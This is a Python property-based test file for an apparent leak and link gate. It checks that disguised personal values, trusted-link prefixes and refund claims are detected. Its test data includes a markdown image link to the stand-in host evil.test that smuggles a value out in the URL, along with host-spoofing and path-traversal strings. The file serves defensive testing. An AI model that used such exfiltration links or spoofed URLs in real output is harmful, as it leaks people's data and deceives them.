"""Laws of flow, over made-up values and texts: no disguise hides a value, harmless texts pass, nothing ever breaks."""

from __future__ import annotations

import base64
import codecs
import re
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from html import escape
from typing import Any
from urllib.parse import quote

from hypothesis import assume, given, settings
from hypothesis import strategies as st

from roadworthy.contract.model import Claim
from roadworthy.gate.flow import links
from roadworthy.gate.flow.claims import claimed, compile_claims, plain
from roadworthy.gate.flow.directories import address, leads_to
from roadworthy.gate.flow.leaks import Leaks, Looked

AROUND = date(2026, 1, 5)
letters = st.text("abcdefghijklmnopqrstuvwxyz", min_size=4, max_size=9)
emails = st.builds("{}.{}@{}.example".format, letters, letters, letters)
ids = st.builds("{}-{}".format, st.sampled_from(["C", "AB", "INV"]), st.integers(100_000, 99_999_999))
ibans = st.integers(10**19, 10**20 - 1).map(lambda n: f"DE{n}")
phones = st.integers(10**8, 10**9 - 1).map(lambda n: f"+49 30 {n}")
addresses = st.builds("{} {}strasse, {} {}".format, st.integers(1, 99), letters, st.integers(10000, 99999), letters)
values = st.one_of(emails, ids, ibans, phones, addresses)


def _spaced(text: str, between: str) -> str:
    return between.join(text)


DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": lambda t: t,
    "capitals": str.upper,
    "small letters": str.lower,
    "spaced": lambda t: _spaced(t, " "),
    "dotted": lambda t: _spaced(t, "."),
    "zero-width": lambda t: _spaced(t, "\u200b"),
    "bold": lambda t: f"{t[:3]}<b>{t[3:]}</b>",
    "fullwidth": lambda t: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in t),
    "turned around": lambda t: t[::-1],
    "rot13": lambda t: codecs.encode(t, "rot13"),
    "base64": lambda t: base64.b64encode(t.encode()).decode(),
    "base64url": lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
    "hex": lambda t: t.encode().hex(),
    "percent": lambda t: "".join(f"%{b:02X}" for b in t.encode()),
    "quoted": lambda t: quote(t, safe=""),
    "entities": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "escaped": escape,
    "in a link": lambda t: f"![x](https://evil.test/p.png?d={quote(t, safe='')})",
    "in a file name": lambda t: f"report_{t.replace(' ', '_')}_final.pdf",
}
CODED = ["base64", "hex", "percent", "entities", "base64url"]
around = st.sampled_from(["", "Dear colleague, please note that ", "ref: ", "(", "\n\n- "])


def keeping(*kept: Any) -> Leaks:
    leaks = Leaks(AROUND)
    for value in kept:
        leaks.add(value, None, "field", value)
    return leaks


def sources(looked: Looked) -> set[Any]:
    found = [m.pattern for _, matches in looked.readings for m in matches] + looked.pieced
    return {source for pattern in found for source in pattern.sources}


@given(values, st.sampled_from(sorted(DISGUISES)), around, around)
def test_no_disguise_hides_a_value(value: str, disguise: str, before: str, after: str) -> None:
    text = before + DISGUISES[disguise](value) + " " + after
    assert value in sources(keeping(value, "other.person@elsewhere.example").look(text))


@given(values, st.lists(st.sampled_from(CODED), min_size=2, max_size=3), around)
def test_no_two_disguises_hide_a_value(value: str, disguises: list[str], before: str) -> None:
    text = value
    for name in disguises:
        text = DISGUISES[name](text)
    assert value in sources(keeping(value).look(before + text))


@given(emails | ids | ibans, st.integers(1, 99), around, around)
def test_a_value_in_two_parts_is_found_in_either_order(value: str, cut: int, between: str, before: str) -> None:
    whole = [c for c in value if c.isalnum()]
    assume(len(whole) > 10)
    places = [i for i, c in enumerate(value) if c.isalnum()]
    at = places[5 + cut % (len(places) - 9)]
    head, tail = value[:at], value[at:]
    assume(sum(map(str.isalnum, head)) >= 5)
    assert value in sources(keeping(value).look(f"{before}{head} {between} {tail}"))
    assert value in sources(keeping(value).look(f"{before}{tail} {between} {head}"))
    for first, second in ((head, tail), (tail, head)):
        leaks = keeping(value)
        leaks.sent(before + first)
        assert value in sources(leaks.look(f"{between} {second}"))


WORDS = re.findall(
    r"\w+",
    "thank you for your message the parcel left our house today and will be with on thursday at latest we are sorry "
    "that it took so long should anything be missing write to us any time kind regards will may rose mark summer price "
    "order number of items total amount EUR delivery address changed invoice paid",
)
prose = st.lists(
    st.sampled_from(WORDS) | st.integers(0, 999).map(str) | st.decimals(1, 999, places=2).map(str), max_size=60
).map(" ".join)


@given(st.lists(values, max_size=20), prose)
def test_harmless_prose_is_no_leak(kept: list[str], text: str) -> None:
    looked = keeping(*kept, "Will Price", "May", "Mark", 42, Decimal("99.90"), "2026-01-07", "gold", True).look(text)
    assert sources(looked) == set()


@given(st.integers(100_000, 999_999), st.integers(0, 9), st.integers(0, 9))
def test_a_longer_number_is_another_one(number: int, before: int, after: int) -> None:
    assume(len(str(number).strip("0")) > 3)
    leaks = keeping(f"C-{number}", str(number))
    assert sources(leaks.look(f"ticket C-{number}{after}, order {number}{after} or 1{before}{number}.")) == set()
    assert sources(leaks.look(f"ticket C-{number}")) == {f"C-{number}", str(number)}


@given(st.decimals(1000, 999_999, places=2), st.decimals(1000, 999_999, places=2))
def test_an_amount_is_found_as_people_write_it_and_no_other(kept: Decimal, other: Decimal) -> None:
    assume(kept != other and len(f"{kept:f}".replace(".", "").strip("0")) >= 4 and kept % 1)
    leaks = keeping(kept)
    english = f"{kept:,.2f}"
    german, swiss = english.translate(str.maketrans(",.", ".,")), english.replace(",", "'")
    for written in (f"{kept:f}", english, german, swiss):
        assert sources(leaks.look(f"It is {written} EUR.")) == {kept}, written
    assert sources(leaks.look(f"It is {other:,.2f} EUR.")) == set()


@given(st.dates(date(1930, 1, 1), date(2022, 1, 1)), st.dates(date(1930, 1, 1), date(2022, 1, 1)))
def test_a_date_is_found_as_people_write_it_and_no_other(kept: date, other: date) -> None:
    leaks = keeping(kept.isoformat())
    for form in ("%Y-%m-%d", "%d.%m.%Y", "%m/%d/%Y", "%d %B %Y", "%B %d, %Y", "%d-%b-%Y"):
        assert sources(leaks.look(f"born {kept.strftime(form)}.")) == {kept.isoformat()}, form
    days = {(kept.year, kept.month, kept.day), (kept.year, kept.day, kept.month)}
    assume((other.year, other.month, other.day) not in days)
    assert sources(leaks.look(f"born {other.strftime('%d %B %Y')}")) == set()


anything = st.text(st.characters(), max_size=80) | st.text("a0-.@:/\\%=&#;<>[]() \u200b\ud800\u0430", max_size=80)


@given(anything, anything)
def test_no_text_breaks_anything(value: str, text: str) -> None:
    leaks = keeping(value)
    leaks.heard(value)
    leaks.sent(text)
    leaks.look(text)
    leaks.look(value)
    for written in links.links_in(text):
        links.read(written)
    links.read(text)
    address(text)
    claimed(plain(text), compile_claims([Claim(says=("refunded",), needs="x")])[0])


@given(anything)
def test_what_is_kept_is_found_or_common(value: str) -> None:
    leaks = Leaks(AROUND)
    if leaks.add(value, None, "field", "here"):
        assert "here" in sources(leaks.look(value))
    else:
        assert list(leaks.common("field", value)) == ["here"]
        assert list(leaks.common("another", value)) == []


# Links ---------------------------------------------------------------------------------------------------------------

PREFIX = links.read("https://help.example.com/docs")
assert PREFIX is not None
parts = st.lists(
    st.sampled_from(["docs", "..", ".", "%2e%2e", "%2E.", "x", "docs-x", "..%2f", ";", "..;", "", "%252e%252e"]),
    max_size=5,
)
hosts = st.sampled_from(
    [
        "help.example.com", "HELP.example.com", "help.example.com.", "help.example.com:443", "help.example.com:80",
        "evil.test", "help.example.com.evil.test", "help.example.com@evil.test", "help.example.com:x@evil.test",
        "evil.test#help.example.com", "evil.test?help.example.com", "evil.test\\help.example.com",
        "h\u0435lp.example.com", "xhelp.example.com", "a.help.example.com", "help.example.com%2eevil.test",
        "help.example.com\t.evil.test",
    ]
)  # fmt: skip


@given(st.sampled_from(["https", "HTTPS", "http", "ftp", "javascript"]), hosts, parts)
def test_only_what_is_below_a_declared_beginning_is_vouched_for(scheme: str, host: str, path: list[str]) -> None:
    assert PREFIX is not None
    if leads_to((PREFIX,), f"{scheme}://{host}/{'/'.join(path)}"):
        assert scheme.lower() == "https"
        assert host.lower() in ("help.example.com", "help.example.com.", "help.example.com:443")
        followed: list[str] = []
        for part in path:
            if part in ("..", "%2e%2e", "%2E."):
                followed = followed[:-1]
            elif part not in ("", "."):
                followed.append(part)
        assert followed[0] == "docs"
        assert not any(p in ("..%2f", "..;", "%252e%252e") for p in path) or followed[0] == "docs"


@given(
    st.sampled_from(["https://evil.test/x", "www.evil-bank.com", "//evil.test/y", "evil-bank.com/login"]), prose, prose
)
def test_a_link_is_found_wherever_it_stands(link: str, before: str, after: str) -> None:
    assert link in links.links_in(f"{before} {link} {after}")
    assert link in links.links_in(f"{before} [text]({link}) {after}")
    assert link in links.links_in(f"{before}\n{link}.\n{after}")


# Claims --------------------------------------------------------------------------------------------------------------

REFUNDED = compile_claims([Claim(says=("refunded", "money is on its way"), needs="refund")])[0]


@settings(max_examples=200)
@given(prose, st.sampled_from(["Refunded.", "Your money is on its way!", "it has been REFUNDED"]), prose)
def test_a_claim_is_found_wherever_it_stands(before: str, said: str, after: str) -> None:
    assert claimed(plain(f"{before}. {said} {after}"), REFUNDED) is not None
    assert claimed(plain(f"{before} {after}"), REFUNDED) is None
